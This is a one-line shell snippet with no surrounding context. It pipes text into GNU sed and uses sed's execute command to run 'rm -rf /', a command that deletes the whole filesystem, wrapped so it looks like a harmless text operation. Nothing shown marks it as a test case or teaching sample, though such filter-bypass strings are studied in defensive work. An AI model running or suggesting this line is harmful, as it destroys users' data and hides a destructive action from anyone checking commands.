echo x | sed '1e rm -rf /'
